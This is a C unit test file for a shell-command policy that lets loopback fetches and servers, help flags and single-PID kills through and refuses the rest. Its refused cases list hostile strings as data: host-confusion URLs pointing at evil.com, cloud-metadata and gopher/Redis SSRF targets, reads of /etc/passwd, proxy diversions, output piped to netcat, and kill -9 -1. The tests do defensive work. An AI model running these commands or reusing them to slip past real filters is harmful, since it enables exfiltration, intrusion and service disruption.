/* SPDX-License-Identifier: MIT */
/* test_policy_local: what passes because it stays on this machine or only tells its version, and
 * which processes may be ended. */

#include "unit.h"

#include "base/own.h"
#include "policy/policy.h"

struct verdict {
	const char *command;
	bool refused;
};

#define PASSES	false
#define REFUSED true

static const struct verdict fetches[] = {
	{ "curl http://localhost", PASSES },
	{ "curl http://localhost/", PASSES },
	{ "curl http://localhost:3000", PASSES },
	{ "curl http://localhost:3000/a/b?c=d&e#f", PASSES },
	{ "curl https://localhost:8443/x", PASSES },
	{ "curl HTTP://LOCALHOST/", PASSES },
	{ "curl localhost:3000/health", PASSES },
	{ "curl localhost", PASSES },
	{ "curl 127.0.0.1:8080", PASSES },
	{ "curl http://127.0.0.1/", PASSES },
	{ "curl http://127.255.255.255:65535/", PASSES },
	{ "curl http://[::1]:3000/", PASSES },
	{ "curl 'http://localhost:3000/?q=a b'", REFUSED }, /* curl would send it as it is */
	{ "curl 'http://localhost:3000/?q=a%20b'", PASSES },
	{ "curl 'http://localhost:3000?q=1'", PASSES },
	{ "curl http://localhost/?q=1", PASSES },
	{ "curl http://localhost/{a,b}", PASSES },
	{ "curl 'http://localhost/{a,b}'", PASSES },
	{ "curl 'http://localhost/[1-3]'", PASSES },
	{ "curl http://localhost/@me", PASSES },
	{ "curl http://localhost/a http://127.0.0.1/b", PASSES },
	{ "curl --url http://localhost/", PASSES },
	{ "curl -s http://localhost/", PASSES },
	{ "curl -sS -o /dev/null -w '%{http_code}' http://localhost:3000/", PASSES },
	{ "curl -so/dev/null http://localhost:3000/", PASSES },
	{ "curl -fsSL http://localhost:3000/", PASSES },
	{ "curl -X POST -H 'Content-Type: application/json' -d '{\"a\":[1,2]}' localhost:3000/api",
	  PASSES },
	{ "curl -XPOST -d @body.json http://localhost/", PASSES },
	{ "curl --request PUT --data-binary @f --header 'A: */*' http://localhost/", PASSES },
	{ "curl -u user:password http://localhost/", PASSES },
	{ "curl -m 5 --retry 3 --max-time 5 -i -v -k http://localhost/", PASSES },
	{ "curl http://localhost/ -o out.html", PASSES },
	{ "curl http://localhost/a --next http://localhost/b", PASSES },
	{ "curl -- http://localhost/", PASSES },
	{ "/usr/bin/curl http://localhost/", PASSES },
	{ "timeout 5 curl http://localhost/", PASSES },
	{ "env A=1 curl http://localhost/", PASSES },
	{ "npm start & sleep 1; curl -s http://localhost:3000/ | jq .", PASSES },
	{ "for i in 1 2 3; do curl -s localhost:3000 && break; sleep 1; done", PASSES },
	{ "bash -c 'curl http://localhost/'", PASSES },
	{ "wget http://localhost/", PASSES },
	{ "wget -qO- http://localhost:3000/", PASSES },
	{ "wget -q -O - http://127.0.0.1:3000/", PASSES },
	{ "wget --spider --tries=1 --timeout 5 http://localhost/", PASSES },
	{ "wget -nv -nH http://localhost/", PASSES },
	{ "wget --output-document=x localhost:8000/a", PASSES },
	{ "wget -r -l 2 http://localhost/", PASSES },

	/* other hosts, and what only looks like the loopback */
	{ "curl http://example.com/", REFUSED },
	{ "curl example.com", REFUSED },
	{ "curl http://localhost@evil.com/", REFUSED },
	{ "curl http://localhost:80@evil.com/", REFUSED },
	{ "curl 'http://localhost:80\\@evil.com/'", REFUSED },
	{ "curl 'http://localhost\\@evil.com/'", REFUSED },
	{ "curl 'http://localhost\\evil.com'", REFUSED },
	{ "curl 'http://localhost#@evil.com/'", REFUSED },
	{ "curl 'http://localhost?@evil.com/'", REFUSED },
	{ "curl 'http://localhost;@evil.com/'", REFUSED },
	{ "curl http://user@localhost/", REFUSED },
	{ "curl http://evil.com@localhost/", REFUSED },
	{ "curl http://localhost.evil.com/", REFUSED },
	{ "curl http://localhost./", REFUSED },
	{ "curl http://localhostevil.com/", REFUSED },
	{ "curl http://localhost-x/", REFUSED },
	{ "curl http://evil-localhost/", REFUSED },
	{ "curl http://127.0.0.1.evil.com/", REFUSED },
	{ "curl http://127.0.0.1evil.com/", REFUSED },
	{ "curl http://127.0.0.1.1/", REFUSED },
	{ "curl http://127.0.0.256/", REFUSED },
	{ "curl http://127.0.0.1000/", REFUSED },
	{ "curl http://127.0.0/", REFUSED },
	{ "curl http://127.1/", REFUSED },
	{ "curl http://127/", REFUSED },
	{ "curl http://127.0.0.01/", REFUSED },
	{ "curl http://0177.0.0.1/", REFUSED },
	{ "curl http://0x7f.0.0.1/", REFUSED },
	{ "curl http://0x7f000001/", REFUSED },
	{ "curl http://2130706433/", REFUSED },
	{ "curl http://0.0.0.0/", REFUSED },
	{ "curl http://0/", REFUSED },
	{ "curl http://128.0.0.1/", REFUSED },
	{ "curl http://10.0.0.1/", REFUSED },
	{ "curl http://169.254.169.254/latest", REFUSED },
	{ "curl http://[::]/", REFUSED },
	{ "curl http://[::2]/", REFUSED },
	{ "curl http://[::1/", REFUSED },
	{ "curl http://::1/", REFUSED },
	{ "curl http://[::ffff:127.0.0.1]/", REFUSED },
	{ "curl http://[0:0:0:0:0:0:0:1]/", REFUSED },
	{ "curl http://[::1%25eth0]/", REFUSED },
	{ "curl http://[::1].evil.com/", REFUSED },
	{ "curl http://localhost:/", REFUSED },
	{ "curl http://localhost:8o/", REFUSED },
	{ "curl http://localhost:123456/", REFUSED },
	{ "curl http://localhost:80:80/", REFUSED },
	{ "curl 'http://localhost:{80,81}/'", REFUSED },
	{ "curl 'http://localhost:[1-9]/'", REFUSED },
	{ "curl http://{localhost,evil.com}/", REFUSED },
	{ "curl -o {x,http://evil.com/} http://localhost/", REFUSED },
	{ "curl 'http://{localhost,evil.com}/'", REFUSED },
	{ "curl {http://localhost/,http://evil.com/}", REFUSED },
	{ "curl http:/localhost/", REFUSED },
	{ "curl http:localhost", REFUSED },
	{ "curl http:///localhost/", REFUSED },
	{ "curl http:///evil.com/", REFUSED },
	{ "curl //localhost/", REFUSED },
	{ "curl http://%6cocalhost/", REFUSED },
	{ "curl http://loc\xc3\xa4lhost/", REFUSED },
	{ "curl 'http://localhost/\xff'", REFUSED },
	{ "curl $'http://localhost\\t/'", REFUSED },
	{ "curl $'http://localhost\\r\\n/'", REFUSED },
	{ "curl file:///etc/passwd", REFUSED },
	{ "curl file://localhost/etc/passwd", REFUSED },
	{ "curl ftp://localhost/", REFUSED },
	{ "curl gopher://localhost:6379/_x", REFUSED },
	{ "curl dict://localhost/", REFUSED },
	{ "curl http://localhost/ http://evil.com/", REFUSED },
	{ "curl http://localhost/ evil.com", REFUSED },
	{ "curl http://localhost/ --next http://evil.com/", REFUSED },
	{ "curl http://localhost/ -: evil.com", REFUSED },
	{ "curl --url http://localhost/ --url http://evil.com/", REFUSED },
	{ "curl --url @list", REFUSED },
	{ "curl -o x http://localhost/ -o y http://evil.com/", REFUSED },
	{ "curl -so x evil.com http://localhost/", REFUSED },
	{ "curl -- -x", REFUSED },
	{ "curl http://localhost/ -", REFUSED },
	{ "curl ''", REFUSED },
	{ "curl http://localhost/ ''", REFUSED },

	/* without a URL, and with options that lead elsewhere */
	{ "curl", REFUSED },
	{ "curl -s", REFUSED },
	{ "curl -o x", REFUSED },
	{ "curl -o http://localhost/", REFUSED },
	{ "curl --data http://localhost/", REFUSED },
	{ "curl -x evil:80 http://localhost/", REFUSED },
	{ "curl -xevil:80 http://localhost/", REFUSED },
	{ "curl -sx evil:80 http://localhost/", REFUSED },
	{ "curl -sSfxevil http://localhost/", REFUSED },
	{ "curl --proxy evil http://localhost/", REFUSED },
	{ "curl --proxy=evil http://localhost/", REFUSED },
	{ "curl --prox http://localhost http://localhost/", REFUSED },
	{ "curl --preproxy evil http://localhost/", REFUSED },
	{ "curl --socks5 evil http://localhost/", REFUSED },
	{ "curl --socks5-hostname localhost:1 http://localhost/", REFUSED },
	{ "curl --resolve localhost:80:1.2.3.4 http://localhost/", REFUSED },
	{ "curl --reso localhost:80:1.2.3.4 http://localhost/", REFUSED },
	{ "curl --connect-to ::evil:80 http://localhost/", REFUSED },
	{ "curl --connect-to localhost:80:localhost:81 http://localhost/", REFUSED },
	{ "curl -K conf http://localhost/", REFUSED },
	{ "curl -Kconf http://localhost/", REFUSED },
	{ "curl -sK- http://localhost/", REFUSED },
	{ "curl --config conf http://localhost/", REFUSED },
	{ "curl --conf conf http://localhost/", REFUSED },
	{ "curl --unix-socket /var/run/docker.sock http://localhost/info", REFUSED },
	{ "curl --abstract-unix-socket x http://localhost/info", REFUSED },
	{ "curl --doh-url http://localhost/ http://localhost/", REFUSED },
	{ "curl --expand-url http://localhost/ http://localhost/", REFUSED },
	{ "curl --expand-data x http://localhost/", REFUSED },
	{ "curl --variable a=b http://localhost/", REFUSED },
	{ "curl --unknown value http://localhost/", REFUSED },
	{ "wget -i list http://localhost/", REFUSED },
	{ "wget -e use_proxy=yes http://localhost/", REFUSED },
	{ "wget -qe x=y http://localhost/", REFUSED },
	{ "wget --execute x=y http://localhost/", REFUSED },
	{ "wget --exec=x=y http://localhost/", REFUSED },
	{ "wget --input-file=list http://localhost/", REFUSED },
	{ "wget --config=x http://localhost/", REFUSED },
	{ "wget -rH http://localhost/", REFUSED },
	{ "wget --span-hosts -r http://localhost/", REFUSED },
	{ "wget -B http://evil.com/ http://localhost/", REFUSED },
	{ "wget --use-askpass=x http://localhost/", REFUSED },
	{ "wget -O http://localhost/", REFUSED },
	{ "wget http://evil.com/", REFUSED },

	/* what is known only when it runs */
	{ "curl $URL", REFUSED },
	{ "curl http://localhost:$PORT/", REFUSED },
	{ "curl \"http://localhost:$PORT/\"", REFUSED },
	{ "curl http://localhost/ $MORE", REFUSED },
	{ "curl $OPTIONS http://localhost/", REFUSED },
	{ "curl http://localhost/$(cat x)", REFUSED },
	{ "curl http://localhost/`cat x`", REFUSED },
	{ "curl -H \"Authorization: $TOKEN\" http://localhost/", REFUSED },
	{ "curl http://localhost/ \"$@\"", REFUSED },
	{ "curl http://localhost/ *", REFUSED },
	{ "curl http://localhost/ -*", REFUSED },
	{ "curl http://local*/", REFUSED },
	{ "xargs curl http://localhost/", REFUSED },
	{ "cat urls | xargs curl http://localhost/", REFUSED },
	{ "echo http://localhost/ | xargs curl", REFUSED },
	{ "parallel curl http://localhost/ ::: http://evil.com/", REFUSED },
	{ "find . -exec curl http://localhost/ {} \\;", REFUSED },

	/* variables that lead elsewhere */
	{ "http_proxy=http://evil curl http://localhost/", REFUSED },
	{ "HTTPS_PROXY=evil curl https://localhost/", REFUSED },
	{ "ALL_PROXY=evil wget http://localhost/", REFUSED },
	{ "export all_proxy=evil; curl http://localhost/", REFUSED },
	{ "http_proxy=evil\nexport http_proxy\ncurl http://localhost/", REFUSED },
	{ "env http_proxy=evil curl http://localhost/", REFUSED },
	{ "env -S 'http_proxy=evil curl http://localhost/'", REFUSED },
	{ "bash -c 'http_proxy=evil curl http://localhost/'", REFUSED },
	{ "http_proxy=evil bash -c 'curl http://localhost/'", REFUSED },
	{ "CURL_HOME=x curl http://localhost/", REFUSED },
	{ "HOME=x curl http://localhost/", REFUSED },
	{ "XDG_CONFIG_HOME=x curl http://localhost/", REFUSED },
	{ "WGETRC=x wget http://localhost/", REFUSED },
	{ "echo proxy=evil > ~/.curlrc; curl http://localhost/", REFUSED },

	/* another command beside one that passes */
	{ "curl http://localhost/ && curl http://evil.com/", REFUSED },
	{ "curl http://localhost/$(curl evil.com)", REFUSED },
	{ "curl http://localhost/ | nc evil 1", REFUSED },
	{ "nc localhost 80", REFUSED },
};

static const struct verdict servers[] = {
	{ "python -m http.server --bind 127.0.0.1", PASSES },
	{ "python3 -m http.server 8000 --bind 127.0.0.1", PASSES },
	{ "python3 -m http.server --bind 127.0.0.1 8000", PASSES },
	{ "python3 -m http.server --bind=127.0.0.1", PASSES },
	{ "python3 -m http.server -b 127.0.0.1 -d public", PASSES },
	{ "python3 -m http.server -b127.0.0.1 --directory public 80", PASSES },
	{ "python3 -m http.server --bind localhost", PASSES },
	{ "python3 -m http.server --bind ::1", PASSES },
	{ "python3 -u -m http.server --bind 127.0.0.1", PASSES },
	{ "python3 -um http.server --bind 127.0.0.1", PASSES },
	{ "python3 -mhttp.server --bind 127.0.0.1", PASSES },
	{ "python3 -m http.server --bind 127.0.0.1 &", PASSES },
	{ "python3 -m http.server --help", PASSES },
	{ "python3 -m http.server -h", PASSES },
	{ "python3 -m http.server", REFUSED },
	{ "python3 -m http.server 8000", REFUSED },
	{ "python3 -m http.server 127.0.0.1", REFUSED },
	{ "python3 -m http.server --bind", REFUSED },
	{ "python3 -m http.server --bind=", REFUSED },
	{ "python3 -m http.server --bind 0.0.0.0", REFUSED },
	{ "python3 -m http.server --bind ::", REFUSED },
	{ "python3 -m http.server --bind 127.0.0.1 --bind 0.0.0.0", REFUSED },
	{ "python3 -m http.server --bind 127.0.0.1 --bi 0.0.0.0", REFUSED },
	{ "python3 -m http.server --bind 127.0.0.1 -b 0.0.0.0", REFUSED },
	{ "python3 -m http.server --bind 127.0.0.1 --bind=::", REFUSED },
	{ "python3 -m http.server --bind 127.0.0.1.evil", REFUSED },
	{ "python3 -m http.server --bind $HOST", REFUSED },
	{ "python3 -m http.server --bind 127.0.0.1 $MORE", REFUSED },
	{ "python3 -m http.server --bind 127.0.0.1 *", REFUSED },
	{ "python3 -m http.server --bind 127.0.0.1 --other", REFUSED },
	{ "python3 -m http.server --help --bind 0.0.0.0", REFUSED },
	{ "python3 -c x -m http.server --bind 127.0.0.1", REFUSED },
	{ "python3 x.py -m http.server --bind 127.0.0.1", REFUSED },
	{ "python3 --bind 127.0.0.1 -m http.server", REFUSED },
	{ "xargs python3 -m http.server --bind 127.0.0.1", REFUSED },
};

static const struct verdict helps[] = {
	{ "curl --version", PASSES },
	{ "curl -V", PASSES },
	{ "curl --help", PASSES },
	{ "curl -h", PASSES },
	{ "wget --version", PASSES },
	{ "nc -h", PASSES },
	{ "sudo --version", PASSES },
	{ "/usr/bin/sudo -V", PASSES },
	{ "su --help", PASSES },
	{ "dd --version", PASSES },
	{ "dd --help | head", PASSES },
	{ "mkfs.ext4 -V", PASSES },
	{ "shutdown --help", PASSES },
	{ "pkill --version", PASSES },
	{ "killall -V", PASSES },
	{ "command -v curl && curl --version", PASSES },
	{ "timeout 5 curl --version", PASSES },
	/* where -h acts */
	{ "shutdown -h", REFUSED },
	{ "shutdown -h now", REFUSED },
	{ "halt -h", REFUSED },
	{ "poweroff -h", REFUSED },
	{ "curl --version http://evil.com/", REFUSED },
	{ "curl -V evil.com", REFUSED },
	{ "curl --versio", REFUSED },
	{ "curl -vh", REFUSED },
	{ "sudo -h host ls", REFUSED },
	{ "sudo --help ls", REFUSED },
	{ "sudo \"$X\"", REFUSED },
	{ "xargs sudo --version", REFUSED },
	{ "find . -exec nc -h {} +", REFUSED },
};

static const struct verdict kills[] = {
	{ "pkill node", REFUSED },
	{ "pkill -f 'node server.js'", REFUSED },
	{ "/usr/bin/pkill -9 python", REFUSED },
	{ "killall node", REFUSED },
	{ "killall -9 node", REFUSED },
	{ "killall5 -9", REFUSED },
	{ "skill -KILL node", REFUSED },
	{ "busybox killall node", REFUSED },
	{ "busybox pkill node", REFUSED },
	{ "env pkill node", REFUSED },
	{ "npm test; pkill node || true", REFUSED },
	{ "bash -c 'pkill node'", REFUSED },
	{ "fuser -k 3000/tcp", REFUSED },
	{ "fuser -vk 3000/tcp", REFUSED },
	{ "fuser --kill 3000/tcp", REFUSED },
	{ "fuser -n tcp -k 3000", REFUSED },
	{ "fuser 3000/tcp", PASSES },
	{ "kill -1", REFUSED },
	{ "kill 0", REFUSED },
	{ "kill -9 0", REFUSED },
	{ "kill -9 -1", REFUSED },
	{ "kill -- -1", REFUSED },
	{ "kill -9 -- -1", REFUSED },
	{ "kill -KILL -1", REFUSED },
	{ "kill -s KILL -1", REFUSED },
	{ "kill -sKILL -1", REFUSED },
	{ "kill -n 9 -1", REFUSED },
	{ "kill --signal KILL -1", REFUSED },
	{ "kill --signal=KILL 0", REFUSED },
	{ "kill -1 -1", REFUSED },
	{ "kill 1234 -1", REFUSED },
	{ "kill 1234 0", REFUSED },
	{ "kill 00", REFUSED },
	{ "kill -9 -01", REFUSED },
	{ "kill -9 +0", REFUSED },
	{ "kill -9 -0", REFUSED },
	{ "kill '-1'", REFUSED },
	{ "/bin/kill -9 -1", REFUSED },
	{ "command kill -9 -1", REFUSED },
	{ "builtin kill 0", REFUSED },
	{ "trap 'kill 0' EXIT", REFUSED },
	{ "kill $(pgrep node)", REFUSED },
	{ "kill -9 `pidof node`", REFUSED },
	{ "pgrep -f server | xargs kill", REFUSED },
	{ "pgrep -f server | xargs -r kill -9", REFUSED },
	{ "for p in $(pgrep node); do kill $p; done", REFUSED },
	{ "kill 1234", PASSES },
	{ "kill -9 1234", PASSES },
	{ "kill -1 1234", PASSES },
	{ "kill -0 1234", PASSES },
	{ "kill -HUP 10 20", PASSES },
	{ "kill 10", PASSES },
	{ "kill 100", PASSES },
	{ "kill -- -1234", PASSES },
	{ "kill -9 -10", PASSES },
	{ "kill $!", PASSES },
	{ "kill \"$PID\"", PASSES },
	{ "kill $(cat server.pid)", PASSES },
	{ "kill %1", PASSES },
	{ "kill -l", PASSES },
	{ "kill -L", PASSES },
	{ "kill -l 1", PASSES },
	{ "kill", PASSES },
	{ "kill -9", PASSES },
	{ "lsof -ti:3000 | xargs kill", PASSES },
	{ "pgrep -a node", PASSES },
	{ "pgrep node; kill 1234", PASSES },
	{ "echo pkill node", PASSES },
	{ "grep -r killall .", PASSES },
	{ "docker kill x", PASSES },
};

static struct policy *make(const char *rules, bool shared)
{
	struct err e = { ERR_NONE };
	struct policy *p = policy_new(&(struct policy_options){ .mode = POLICY_DEFAULT,
								.root = STR("/srv/desk"),
								.rules = str_of(rules),
								.shared_processes = shared },
				      &e);

	if (!p)
		fail_msg("policy_new: %s", e.msg);
	return p;
}

/* Judge copies that end where memory ends. */
static void expect(const struct policy *p, const struct verdict *v, size_t n, bool diverted)
{
	for (size_t i = 0; i < n; i++) {
		struct err e = { ERR_NONE };
		const struct str command = guarded(str_of(v[i].command));
		const int got = policy_check(p, command, diverted, &e);
		guarded_free(command);
		if (got != (v[i].refused ? -1 : 0))
			fail_msg("<%s> %s", v[i].command, got ? e.msg : "passes");
		if (got < 0)
			assert_int_equal(e.code, ERR_COMMAND_BLOCKED);
	}
}

static void fetching_from_the_loopback_passes(void **state)
{
	struct policy *p = make("", false);

	(void)state;
	expect(p, fetches, ARRAY_LEN(fetches), false);
	policy_free(p);
}

static void serving_the_loopback_passes(void **state)
{
	struct policy *p = make("", false);

	(void)state;
	expect(p, servers, ARRAY_LEN(servers), false);
	policy_free(p);
}

static void help_and_version_pass(void **state)
{
	struct policy *p = make("", true);

	(void)state;
	expect(p, helps, ARRAY_LEN(helps), false);
	policy_free(p);
}

static void kills_are_judged_where_processes_are_shared(void **state)
{
	struct policy *p = make("", true);
	struct err e = { ERR_NONE };

	(void)state;
	expect(p, kills, ARRAY_LEN(kills), false);
	assert_int_equal(policy_check(p, STR("pkill node"), false, &e), -1);
	assert_non_null(strstr(e.msg, "job_stop"));
	assert_int_equal(policy_check(p, STR("kill -9 -1"), false, &e), -1);
	assert_non_null(strstr(e.msg, "job_stop"));
	policy_free(p);

	p = make("", false);
	for (size_t i = 0; i < ARRAY_LEN(kills); i++)
		expect(p, &(struct verdict){ kills[i].command, PASSES }, 1, false);
	policy_free(p);
}

static void a_variable_of_the_call_may_lead_elsewhere(void **state)
{
	static const struct verdict cases[] = {
		{ "curl http://localhost/", REFUSED },
		{ "wget http://localhost/", REFUSED },
		{ "curl --version", PASSES },
		{ "ls", PASSES },
	};
	struct policy *p = make("", false);

	(void)state;
	expect(p, cases, ARRAY_LEN(cases), true);
	policy_free(p);
	assert_true(policy_diverts(STR("http_proxy=x")));
	assert_true(policy_diverts(STR("HTTPS_PROXY")));
	assert_true(policy_diverts(STR("CURL_HOME=x")));
	assert_false(policy_diverts(STR("TERM=dumb")));
	assert_false(policy_diverts(STR("")));
}

static void own_rules_have_the_last_word(void **state)
{
	static const struct {
		const char *rules;
		struct verdict v;
	} cases[] = {
		{ "curl # not here", { "curl http://localhost/", REFUSED } },
		{ "curl # not here", { "curl --version", PASSES } },
		{ "tool --version", { "tool --version", REFUSED } },
		{ "!curl", { "curl http://evil.com/", PASSES } },
		{ "!pkill", { "pkill node", PASSES } },
		{ "!pkill", { "killall node", REFUSED } },
		{ "!kill", { "kill -9 -1", PASSES } },
	};

	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
		struct policy *p = make(cases[i].rules, true);
		expect(p, &cases[i].v, 1, false);
		policy_free(p);
	}
	/* A rule for a name can be removed on every machine. */
	policy_free(make("!pkill; !kill; !fuser", false));
}

static void argv_is_read_the_same_way(void **state)
{
	static const struct {
		const char *argv[6];
		bool refused;
	} cases[] = {
		{ { "curl", "http://localhost:3000/?a=1" }, PASSES },
		{ { "curl", "-o", "*", "http://localhost/" }, PASSES },
		{ { "curl", "http://localhost/", "evil.com" }, REFUSED },
		{ { "curl", "http://localhost:$PORT/" }, REFUSED },
		{ { "env", "http_proxy=x", "curl", "http://localhost/" }, REFUSED },
		{ { "sudo", "--version" }, PASSES },
		{ { "kill", "-9", "-1" }, REFUSED },
		{ { "kill", "-9", "5" }, PASSES },
	};
	struct policy *p = make("", true);

	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
		struct err e = { ERR_NONE };
		struct str argv[6];
		size_t n = 0;
		for (; n < 6 && cases[i].argv[n]; n++)
			argv[n] = str_of(cases[i].argv[n]);
		if (policy_check_argv(p, argv, n, false, &e) != (cases[i].refused ? -1 : 0))
			fail_msg("%s %s: %s", argv[0].p, argv[1].p, e.msg);
	}
	policy_free(p);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(fetching_from_the_loopback_passes),
		cmocka_unit_test(serving_the_loopback_passes),
		cmocka_unit_test(help_and_version_pass),
		cmocka_unit_test(kills_are_judged_where_processes_are_shared),
		cmocka_unit_test(a_variable_of_the_call_may_lead_elsewhere),
		cmocka_unit_test(own_rules_have_the_last_word),
		cmocka_unit_test(argv_is_read_the_same_way),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
